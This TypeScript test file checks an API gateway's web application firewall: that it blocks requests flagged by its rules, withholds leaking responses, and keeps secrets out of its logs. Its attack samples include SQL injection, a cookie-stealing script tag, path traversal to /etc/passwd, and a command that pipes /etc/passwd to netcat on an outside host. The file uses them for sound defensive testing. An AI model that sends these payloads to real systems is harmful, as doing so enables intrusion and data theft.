import { once } from 'node:events'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { connect as connectHttp2 } from 'node:http2'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { WebSocket } from 'ws'
import { type ActivityLine, freePort, runCommand, startGate, type TestGate, until } from '../kit/gate.ts'
import { rawClient } from '../kit/raw.ts'
import { json, startUpstream, type TestUpstream } from '../kit/upstream.ts'

/*
 * W1, W3, I1, I2: the firewall in the gate. What rules find is their own tests' affair; here, that what they find has its effect,
 * that nothing gets around them, and that they keep to their bounds.
 */

const string = { type: 'string' }
const responses = { 200: { description: 'Fine.' } }
const body = (type: string, schema?: object) => ({ requestBody: { content: { [type]: schema ? { schema } : {} } } })
const order = {
  type: 'object',
  properties: {
    note: string,
    kind: { enum: ['new', 'old'] },
    password: string,
    lines: { type: 'array', items: { type: 'object', properties: { text: string } } },
  },
}

const document = {
  openapi: '3.1.0',
  info: { title: 'Shop', version: '1' },
  security: [],
  paths: {
    '/search': {
      get: {
        operationId: 'search',
        parameters: [
          { name: 'q', in: 'query', schema: string },
          { name: 'password', in: 'query', schema: string },
        ],
        responses,
      },
    },
    '/orders': {
      post: { operationId: 'createOrder', tags: ['orders'], ...body('application/json', order), responses },
    },
    '/forms': { post: { ...body('application/x-www-form-urlencoded', order), responses } },
    '/parts': { post: { ...body('multipart/form-data', order), responses } },
    '/xml': { post: { ...body('application/xml'), responses } },
    '/files': { post: { ...body('application/octet-stream'), responses } },
    '/watched': {
      get: {
        parameters: [{ name: 'q', in: 'query', schema: string }],
        responses,
        'x-portcullis': { waf: { mode: 'observe' } },
      },
    },
    '/open': {
      get: {
        parameters: [{ name: 'q', in: 'query', schema: string }],
        responses,
        'x-portcullis': { waf: { mode: 'off' } },
      },
    },
    '/leaks/{kind}': {
      get: {
        operationId: 'leak',
        parameters: [{ name: 'kind', in: 'path', required: true, schema: string }],
        responses,
      },
    },
  },
}

/** Rules of the test's own, beside those that come with the gate: what they find does not change with them. */
const rules = String.raw`
SecRule ARGS|REQUEST_COOKIES|REQUEST_HEADERS|XML:/* "@rx evil-[a-z]+" "id:100001,phase:2,deny,status:403,capture,t:none,\
  msg:'Evil was found',tag:'attack-test',severity:CRITICAL"
SecRule REQUEST_LINE|REQUEST_HEADERS "@contains evil-door" "id:100002,phase:1,pass,log,msg:'Evil at the door',severity:WARNING"
SecRule RESPONSE_BODY "@rx leak-[a-z]+" "id:100003,phase:4,deny,status:403,capture,msg:'A leak',severity:ERROR"
SecRule RESPONSE_HEADERS:X-Leak "@streq yes" "id:100004,phase:3,deny,status:403,msg:'A leak in the head',severity:ERROR"
`

let upstream: TestUpstream
/** One file for all: rules are compiled once, and all gates of this process share them. */
let ruleFile: string
let gate: TestGate | undefined

beforeAll(async () => {
  ruleFile = join(await mkdtemp(join(tmpdir(), 'portcullis-waf-')), 'own.conf')
  await writeFile(ruleFile, rules)
  upstream = await startUpstream((request, reply, hit) => {
    if (request.url === '/leaks/json') return json(reply, { trace: 'leak-json' })
    if (request.url === '/leaks/head') return json(reply, {}, 200, { 'x-leak': 'yes' })
    if (request.url === '/leaks/large') return json(reply, { fine: 'x'.repeat(600_000), trace: 'leak-late' })
    if (request.url === '/leaks/bytes') {
      reply.writeHead(200, { 'content-type': 'application/octet-stream' })
      return reply.end('leak-bytes')
    }
    if (request.url === '/leaks/gzip') {
      const coded = gzipSync(JSON.stringify({ trace: 'leak-gzip' }))
      reply.writeHead(200, {
        'content-type': 'application/json',
        'content-encoding': 'gzip',
        'content-length': coded.length,
      })
      return reply.end(coded)
    }
    if (request.url === '/leaks/slow') {
      reply.writeHead(200, { 'content-type': 'text/plain' })
      reply.write('first ')
      upstream.server.once('go', () => reply.end('leak-slow'))
      return
    }
    if (request.url === '/leaks/events') {
      reply.writeHead(200, { 'content-type': 'text/event-stream' })
      reply.write('data: leak-event\n\n')
      upstream.server.once('go', () => reply.end())
      return
    }
    json(reply, { bytes: hit.body.length })
  })
})
afterAll(async () => {
  await upstream.stop()
  await rm(dirname(ruleFile), { recursive: true })
})
afterEach(async () => {
  await gate?.stop()
  gate = undefined
  upstream.hits.length = 0
})

async function start(waf: object = {}, more: Partial<Parameters<typeof startGate>[0]> = {}): Promise<TestGate> {
  gate = await startGate({
    document,
    upstream: upstream.url,
    ...(more.files !== undefined && { files: more.files }),
    root: { waf: { include: { after: [ruleFile] } }, ...more.root },
    api: { limits: { mode: 'off' }, ...more.api, waf },
  })
  return gate
}

async function line(of: TestGate, fits: (line: ActivityLine) => boolean = () => true): Promise<ActivityLine> {
  return until(async () => (await of.lines()).findLast(fits), 'an activity line')
}

const post = (type: string, content: string | Buffer, headers: Record<string, string> = {}) => ({
  method: 'POST',
  headers: { 'content-type': type, ...headers },
  body: content,
})

describe('W1, I2: a request that rules find harmful', () => {
  test('is refused by default, without a word on why, and never reaches the upstream', async () => {
    const { fetch } = await start()
    const reply = await fetch('/search?q=evil-words')
    expect(reply.status).toBe(403)
    const problem = (await reply.json()) as Record<string, unknown>
    expect(problem).toMatchObject({ code: 'waf.blocked', detail: 'The request was refused by a security rule.' })
    expect(JSON.stringify(problem)).not.toMatch(/evil|100001|ARGS/)
    expect(upstream.hits).toEqual([])
    expect((await fetch('/search?q=good')).status).toBe(200)
  })

  test.each([
    ['SQL injection', "1' or '1'='1' -- "],
    ['script', '<script>alert(document.cookie)</script>'],
    ['a path', '../../../../etc/passwd'],
    ['a command', '; cat /etc/passwd | nc 10.0.0.1 99'],
  ])('that is %s is found by the rules that come with the gate', async (_, attack) => {
    const { fetch } = await start()
    expect((await fetch(`/search?q=${encodeURIComponent(attack)}`)).status).toBe(403)
    expect((await fetch('/orders', post('application/json', JSON.stringify({ note: attack })))).status).toBe(403)
    expect(upstream.hits).toEqual([])
  })

  test.each([
    ['JSON', '/orders', post('application/json', '{"note":"evil-json"}')],
    ['JSON deep down', '/orders', post('application/json', '{"lines":[{"text":"x"},{"text":"evil-deep"}]}')],
    ['a form', '/forms', post('application/x-www-form-urlencoded', 'note=evil%2Dform')],
    [
      'a part',
      '/parts',
      post(
        'multipart/form-data; boundary=b',
        '--b\r\nContent-Disposition: form-data; name="note"\r\n\r\nevil-part\r\n--b--\r\n',
      ),
    ],
    ['XML', '/xml', post('application/xml', '<a><b>evil-xml</b></a>')],
    [
      'a coded body',
      '/orders',
      post('application/json', gzipSync('{"note":"evil-gzip"}'), { 'content-encoding': 'gzip' }),
    ],
    ['a cookie', '/search', { headers: { cookie: 'theme=evil-cookie' } }],
    ['a header', '/search', { headers: { accept: 'evil-header' } }],
  ])('in %s', async (_, path, init) => {
    const { fetch } = await start()
    expect((await fetch(path, init)).status).toBe(403)
    expect(upstream.hits).toEqual([])
  })

  test('over HTTP/2, where a host that goes by another name is no missing one', async () => {
    const { port } = await start({}, { root: { listen: [{ port: 0, host: '127.0.0.1', tls: 'development' }] } })
    const session = connectHttp2(`https://127.0.0.1:${port}`, { rejectUnauthorized: false })
    const ask = async (path: string) => {
      const stream = session.request({ ':path': path, ':authority': 'shop.test', 'user-agent': 'test', accept: '*/*' })
      const [headers] = (await once(stream, 'response')) as [Record<string, unknown>]
      stream.resume()
      return headers[':status']
    }
    expect(await ask('/search?q=evil-two')).toBe(403)
    expect(await ask('/search?q=good')).toBe(200)
    session.close()
    const passed = await line(gate!, ({ status }) => status === 200)
    expect(passed).not.toHaveProperty('matches')
  })

  test('in the head of a WebSocket', async () => {
    const { port } = await start({}, { api: { validate: { request: 'off' } } })
    const socket = new WebSocket(`ws://127.0.0.1:${port}/search?q=evil-socket`)
    const [, reply] = (await once(socket, 'unexpected-response')) as [unknown, { statusCode: number }]
    expect(reply.statusCode).toBe(403)
    socket.on('error', () => {})
    socket.terminate()
  })
})

describe('O1, O2: what is told of it', () => {
  test('rule, message, tags, place, score and what fitted are in the line, and in explain with what to paste', async () => {
    const one = await start()
    const reply = await one.fetch('/orders', post('application/json', '{"lines":[{"text":"an evil-word here"}]}'))
    const { instance } = (await reply.json()) as { instance: string }
    const match = {
      rule: 100001,
      message: 'Evil was found',
      severity: 'CRITICAL',
      score: 0,
      variable: 'ARGS:json.lines.0.text',
      data: 'evil-word',
      tags: ['attack-test'],
    }
    expect(await line(one)).toMatchObject({
      status: 403,
      denial: { code: 'waf.blocked', evidence: { rule: 100001, rules: [100001] } },
      matches: [match],
    })
    const explained = await runCommand(['explain', instance, '--config', join(one.dir, 'portcullis.yaml')])
    expect(explained.stdout).toContain('100001 CRITICAL')
    expect(explained.stdout).toContain('ARGS:json.lines.0.text: "evil-word"')
  })

  test('an exclusion that explain prints lets the request pass, and nothing else', async () => {
    const one = await start()
    const attack = (note: string, other = 'x') =>
      one.fetch('/orders', post('application/json', JSON.stringify({ note, lines: [{ text: other }] })))
    const found = "1' or '1'='1"
    const { instance } = (await (await attack(found)).json()) as { instance: string }
    const { stdout } = await runCommand(['explain', instance, '--config', join(one.dir, 'portcullis.yaml')])
    const printed = [...stdout.matchAll(/^ {6}- (\{.*\})$/gm)].map(([, text]) => text!)
    expect(printed.length).toBeGreaterThan(0)
    const exclusions = printed.map((text) =>
      JSON.parse(text.replace(/(\w+): (?=["\d])/g, '"$1": ').replace('"…"', '"known names"')),
    )
    expect(exclusions).toContainEqual(expect.objectContaining({ target: '/note', match: 'op:createOrder' }))
    await one.reload({ api: { limits: { mode: 'off' }, waf: { exclusions } } })
    expect((await attack(found)).status).toBe(200)
    expect((await attack('x', found)).status).toBe(403)
    expect((await one.fetch(`/search?q=${encodeURIComponent(found)}`)).status).toBe(403)
  })

  test('secrets are nowhere: neither cookies and credentials, nor fields whose name speaks of them', async () => {
    const one = await start()
    const canary = 'evil-canarysevenvalue'
    await one.fetch(`/search?password=${canary}`)
    await one.fetch('/orders', post('application/json', JSON.stringify({ password: canary })))
    await one.fetch('/search', { headers: { cookie: `sid=${canary}` } })
    await one.fetch('/search', { headers: { authorization: `Custom ${canary}` } })
    const lines = await one.lines(4)
    expect(lines.map(({ status }) => status)).toEqual([403, 403, 403, 403])
    for (const { matches } of lines) expect(matches[0]).toMatchObject({ rule: 100001 })
    expect(JSON.stringify(lines)).not.toContain('canaryseven')
  })

  test('O3: matches are counted by rule, refusals by code', async () => {
    const metrics = `127.0.0.1:${await freePort()}`
    const one = await start({}, { root: { telemetry: { metrics } } })
    await one.fetch('/search?q=evil-count')
    await one.fetch('/watched?q=evil-count')
    const text = await until(async () => {
      const shown = await (await fetch(`http://${metrics}/metrics`)).text()
      return shown.includes('portcullis_observed_denials_total{') && shown
    }, 'the second exchange in the metrics')
    expect(text).toMatch(/portcullis_rule_matches_total\{api="test",rule="100001"\} 2/)
    expect(text).toMatch(/portcullis_denials_total\{api="test",code="waf.blocked"\} 1/)
    expect(text).toMatch(/portcullis_observed_denials_total\{api="test",code="waf.blocked"\} 1/)
  })
})

describe('W3, I1: how it stands', () => {
  test('an operation that is observed lets everything pass and tells of it; one that is off does not look', async () => {
    const one = await start()
    expect((await one.fetch('/watched?q=evil-watched')).status).toBe(200)
    const observed = await line(one)
    expect(observed).toMatchObject({ observed: ['waf.blocked'], matches: [{ rule: 100001 }] })
    expect((await one.fetch('/open?q=evil-open')).status).toBe(200)
    const open = await line(one, ({ route }) => route === '/open')
    expect(open).not.toHaveProperty('observed')
    expect(open).not.toHaveProperty('matches')
    expect(upstream.hits).toHaveLength(2)
  })

  test.each<[string, object, number, number]>([
    ['a rule at a place', { rule: 100001, target: 'ARGS:q' }, 200, 403],
    ['a rule at a JSON place', { rule: '100001-100009', target: '/note' }, 403, 200],
    ['a rule', { rule: 100001 }, 200, 200],
    ['a tag', { tag: 'attack-test' }, 200, 200],
    ['a rule at an operation', { rule: 100001, match: 'tag:orders' }, 403, 200],
    ['a rule until a day that is over', { rule: 100001, expires: '2020-01-01' }, 403, 403],
    ['a rule until a day to come', { rule: 100001, expires: '2999-01-01' }, 200, 200],
  ])('an exclusion of %s', async (_, exclusion, search, create) => {
    const { fetch } = await start({ exclusions: [{ reason: 'a test', ...exclusion }] })
    expect((await fetch('/search?q=evil-one')).status).toBe(search)
    expect((await fetch('/orders', post('application/json', '{"note":"evil-two"}'))).status).toBe(create)
    expect((await fetch('/search?q=x', { headers: { cookie: 'a=evil-three' } })).status).toBe(
      (exclusion as { target?: string; match?: string }).target === undefined && search === 200 ? 200 : 403,
    )
  })

  test('a rule file that changes is in force without a restart; one that is broken is refused with its place', async () => {
    const one = await start({}, { files: { 'own.conf': rules }, root: { waf: { include: { after: ['./own.conf'] } } } })
    const file = join(one.dir, 'own.conf')
    expect(one.running.load().files).toContain(file)
    await one.reload({ files: { 'own.conf': rules.replace('evil-[a-z]+', 'wicked-[a-z]+') } })
    expect((await one.fetch('/search?q=evil-word')).status).toBe(200)
    expect((await one.fetch('/search?q=wicked-word')).status).toBe(403)
    const broken = one.reload({ files: { 'own.conf': 'SecRule ARGS "@rx (" "id:1,phase:2,deny"\n' } })
    await expect(broken).rejects.toMatchObject({
      errors: [{ code: 'P1520', place: { file, line: 1 } }],
    })
    expect((await one.fetch('/search?q=wicked-word')).status).toBe(403)
  })

  test.each([
    ['thresholds', { thresholds: { inbound: 1_000 } }, 200],
    ['the plain evaluator', { evaluator: 'plain' }, 403],
    ['no proofs', { specAware: false }, 403],
    ['the highest paranoia', { paranoia: 4 }, 403],
  ])('%s are set by the configuration', async (_, waf, status) => {
    const { fetch } = await start(waf)
    expect((await fetch(`/search?q=${encodeURIComponent("1' or '1'='1' -- ")}`)).status).toBe(status)
  })

  test.each([
    [{ exclusions: [{ rule: 1, target: 'NOTHING:x', reason: 'r' }] }],
    [{ exclusions: [{ rule: 1, target: 'ARGS:x|ARGS:y', reason: 'r' }] }],
    [{ exclusions: [{ rule: 1, tag: 'x', reason: 'r' }] }],
    [{ exclusions: [{ rule: 1 }] }],
    [{ exclusions: [{ rule: 1, match: 'nonsense', reason: 'r' }] }],
    [{ paranoia: 5 }],
    [{ paranoid: 1 }],
  ])('%j is refused at the start', async (waf) => {
    await expect(start(waf)).rejects.toMatchObject({ errors: [{ code: expect.stringMatching(/^P10/) }] })
  })

  test('an exclusion of a rule that there is not is told', async () => {
    const { messages } = await start({ exclusions: [{ rule: 5, reason: 'old' }] })
    expect(messages).toContainEqual(expect.objectContaining({ level: 'warn', fields: { rule: 5, tag: undefined } }))
  })
})

describe('W3: bodies', () => {
  test('larger than the limit are refused before they are read, and where nothing announced them, after', async () => {
    const one = await start({ maxBody: '64KB' }, { api: { validate: { request: 'off' } } })
    const large = JSON.stringify({ note: 'x'.repeat(70_000) })
    const reply = await one.fetch('/orders', post('application/json', large))
    expect(reply.status).toBe(413)
    expect(await reply.json()).toMatchObject({ code: 'gate.body-too-large' })
    const chunked = (await rawClient(one.port)).send(
      `POST /orders HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n${large.length.toString(16)}\r\n${large}\r\n0\r\n\r\n`,
    )
    expect(await chunked.status()).toBe(413)
    expect(upstream.hits).toEqual([])
  })

  test('of bytes, where the document says so, stream through unlooked at; under another name they are searched', async () => {
    const one = await start({}, { api: { validate: { request: 'off' } } })
    const bytes = Buffer.concat([Buffer.from('note=evil-bytes&'), Buffer.alloc(200_000, 7)])
    expect((await one.fetch('/files', post('application/octet-stream', bytes))).status).toBe(200)
    expect(upstream.hits[0]!.body.equals(bytes)).toBe(true)
    expect((await one.fetch('/files', post('application/x-www-form-urlencoded', bytes))).status).toBe(403)
    expect((await one.fetch('/orders', post('text/json', '{"note":"evil-text"}'))).status).toBe(403)
  })

  test('with more values than are looked at are refused', async () => {
    const one = await start({ maxValues: 100 })
    const list = (count: number) => JSON.stringify({ lines: Array.from({ length: count }, () => ({ text: 'x' })) })
    expect((await one.fetch('/orders', post('application/json', list(90)))).status).toBe(200)
    expect((await one.fetch('/orders', post('application/json', list(200)))).status).toBe(400)
  })

  test.each([
    ['broken JSON', '/orders', post('application/json', '{"note": evil-broken')],
    ['JSON twice over', '/orders', post('application/json', '{"note":"x"}{"note":"evil-second"}')],
    ['a repeated key', '/orders', post('application/json', '{"note":"evil-first","note":"x"}')],
    [
      'a boundary that does not fit',
      '/parts',
      post('multipart/form-data; boundary=b', '--c\r\n\r\nnote=evil-part\r\n--c--'),
    ],
  ])('%s does not get around it', async (_, path, init) => {
    const { fetch } = await start({}, { api: { validate: { request: 'off' } } })
    expect((await fetch(path, init)).status).toBeGreaterThanOrEqual(400)
    expect(upstream.hits).toEqual([])
  })
})

describe('W3, L7: input made to be slow', () => {
  const many = (count: number, make: (i: number) => string, separator = ',') =>
    Array.from({ length: count }, (_, i) => make(i)).join(separator)
  const form = 'application/x-www-form-urlencoded'

  test.each<[string, string, Parameters<TestGate['fetch']>[1]?]>([
    ['a thousand line feeds', `/search?q=${'%0a'.repeat(1_000)}`],
    ['quotes and signs of equality', `/search?q=${'%27===='.repeat(700)}`],
    ['spaces and commas', `/search?q=${encodeURIComponent('*/*, '.repeat(1_000))}`],
    ['a header of brackets', '/search', { headers: { accept: '<'.repeat(8_000) } }],
    [
      '1 MB of prose',
      '/orders',
      post('application/json', JSON.stringify({ note: 'The "quick" (brown) fox; or 1 = 1? '.repeat(28_000) })),
    ],
    ['1 MB of one letter', '/orders', post('application/json', JSON.stringify({ note: 'a'.repeat(1_000_000) }))],
    ['20,000 texts', '/orders', post('application/json', `{"lines":[${many(20_000, (i) => `{"text":"s${i}"}`)}]}`)],
    ['half a million numbers', '/orders', post('application/json', `[${many(500_000, () => '1')}]`)],
    ['lists within lists', '/orders', post('application/json', '['.repeat(400_000))],
    [
      '100,000 fields',
      '/forms',
      post(
        form,
        many(100_000, (i) => `f${i}=1`, '&'),
      ),
    ],
    ['percent signs', '/forms', post(form, `note=${'%25'.repeat(300_000)}`)],
    [
      'parts',
      '/parts',
      post(
        'multipart/form-data; boundary=b',
        `${many(10_000, (i) => `--b\r\nContent-Disposition: form-data; name="n${i}"\r\n\r\nx\r\n`, '')}--b--`,
      ),
    ],
    ['elements', '/xml', post('application/xml', `${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`)],
    ['script almost', '/orders', post('application/json', JSON.stringify({ note: '<scrip onerro= '.repeat(60_000) }))],
  ])('%s: is answered in time, and so is what comes behind it', async (_, path, init) => {
    const { fetch } = await start({}, { api: { validate: { request: 'off' } } })
    await fetch('/search?q=warm')
    const before = performance.now()
    const reply = await fetch(path, init)
    expect([200, 400, 403, 413, 414]).toContain(reply.status)
    expect((await fetch('/search?q=good')).status).toBe(200)
    // Generous: the machine has other things to do.
    expect(performance.now() - before).toBeLessThan(4_000)
  })
})

describe('W1, V9: answers that rules find to leak', () => {
  test.each(['json', 'head', 'gzip'])('%s: noted by default, and passed as they came', async (kind) => {
    const one = await start()
    const reply = await one.fetch(`/leaks/${kind}`)
    expect(reply.status).toBe(200)
    await reply.text()
    const told = await line(one)
    expect(told.observed).toEqual(['waf.response-blocked'])
    expect(told.matches[0].rule).toBe(kind === 'head' ? 100004 : 100003)
  })

  test.each(['json', 'head', 'gzip'])('%s: withheld where answers are enforced', async (kind) => {
    const one = await start({ response: 'enforce' })
    const reply = await one.fetch(`/leaks/${kind}`)
    expect(reply.status).toBe(502)
    const text = await reply.text()
    expect(JSON.parse(text)).toMatchObject({ code: 'waf.response-blocked' })
    expect(text).not.toContain('leak-')
  })

  test.each(['observe', 'enforce'])('%s: the rest of a large answer streams on, whole', async (response) => {
    const { fetch } = await start({ response })
    const reply = await fetch('/leaks/large')
    expect(reply.status).toBe(200)
    expect(((await reply.json()) as { trace: string }).trace).toBe('leak-late')
  })

  test('an observed answer is never held: its beginning arrives before its end is there', async () => {
    const one = await start()
    const reply = await one.fetch('/leaks/slow')
    const reader = reply.body!.getReader()
    expect(Buffer.from((await reader.read()).value as Uint8Array).toString()).toBe('first ')
    upstream.server.emit('go')
    let rest = ''
    for (let piece = await reader.read(); !piece.done; piece = await reader.read()) {
      rest += Buffer.from(piece.value as Uint8Array).toString()
    }
    expect(rest).toBe('leak-slow')
    expect((await line(one)).observed).toEqual(['waf.response-blocked'])
  })

  test.each(['observe', 'enforce'])('%s: event streams and bytes pass unlooked at', async (response) => {
    const { fetch } = await start({ response })
    const events = await fetch('/leaks/events')
    const reader = events.body!.getReader()
    expect(Buffer.from((await reader.read()).value as Uint8Array).toString()).toContain('leak-event')
    upstream.server.emit('go')
    await reader.read()
    expect(await (await fetch('/leaks/bytes')).text()).toBe('leak-bytes')
  })

  test('a part of an answer is not asked for where answers are enforced', async () => {
    const { fetch } = await start({ response: 'enforce' }, { api: { headers: { request: { allow: 'all' } } } })
    await fetch('/leaks/bytes', { headers: { range: 'bytes=0-3' } })
    expect(upstream.hits[0]!.headers.range).toBeUndefined()
  })
})

describe('W1: what is refused at the door', () => {
  test.each([
    ['dot segments', 'GET /evil-door/../x HTTP/1.1\r\nHost: a\r\n\r\n', 400, 'protocol.dot-segment'],
    [
      'a header twice',
      'GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: evil-door\r\nUser-Agent: b\r\n\r\n',
      400,
      'protocol.duplicate-header',
    ],
    ['an unknown method', 'EVIL /evil-door HTTP/1.1\r\nHost: a\r\n\r\n', 501, 'protocol.method'],
    ['no HTTP', 'GET /evil-door WHAT/1.1\r\nHost: a\r\n\r\n', 400, 'protocol.malformed'],
  ])('%s: is looked at for the log, and refused as ever', async (_, bytes, status, code) => {
    const one = await start()
    expect(await (await rawClient(one.port)).send(bytes).status()).toBe(status)
    expect(await line(one)).toMatchObject({
      denial: { code },
      matches: expect.arrayContaining([expect.objectContaining({ rule: 100002 })]),
    })
    expect(upstream.hits).toEqual([])
  })

  test('a flood of it costs no more than its share: most go unlooked', async () => {
    const one = await start()
    const bytes = `GET /evil-door/../x HTTP/1.1\r\nHost: a\r\nX: ${'evil-door '.repeat(1_500)}\r\n\r\n`
    const clients = await Promise.all(Array.from({ length: 50 }, () => rawClient(one.port)))
    for (let round = 0; round < 20; round++) {
      await Promise.all(
        clients.map(async (_, i) => {
          const fresh = await rawClient(one.port)
          clients[i]!.destroy()
          clients[i] = fresh
          await fresh.send(bytes).status()
        }),
      )
    }
    for (const client of clients) client.destroy()
    const lines = await one.lines(1_000)
    expect(lines.every(({ denial }) => denial.code === 'protocol.dot-segment')).toBe(true)
    expect(lines.some(({ matches }) => matches !== undefined)).toBe(true)
  })
})

test('W2: rules from a folder that is not there are refused at the start', async () => {
  const missing = start({}, { root: { waf: { crs: { path: './no-such-folder' } } } })
  await expect(missing).rejects.toMatchObject({ code: 'P1510' })
})

test('W2: an unpacked rule set runs in place of our own, and is in force anew when its files change', async () => {
  gate = await startGate({
    document,
    upstream: upstream.url,
    files: {
      'set/crs-setup.conf': 'SecDefaultAction "phase:2,log,auditlog,pass"\n',
      'set/rules/REQUEST-942.conf': 'SecRule ARGS "@streq other" "id:942999,phase:2,deny,status:403"\n',
    },
    api: { limits: { mode: 'off' }, waf: { rules: { path: './set' } } },
  })
  expect((await gate.fetch('/search?q=other')).status).toBe(403)
  expect((await gate.fetch(`/search?q=${encodeURIComponent('<script>alert(1)</script>')}`)).status).toBe(200)
  await gate.reload({
    files: {
      'set/crs-setup.conf': 'SecDefaultAction "phase:2,log,auditlog,pass"\n',
      'set/rules/REQUEST-942.conf': 'SecRule ARGS "@streq next" "id:942999,phase:2,deny,status:403"\n',
    },
  })
  expect((await gate.fetch('/search?q=next')).status).toBe(403)
})
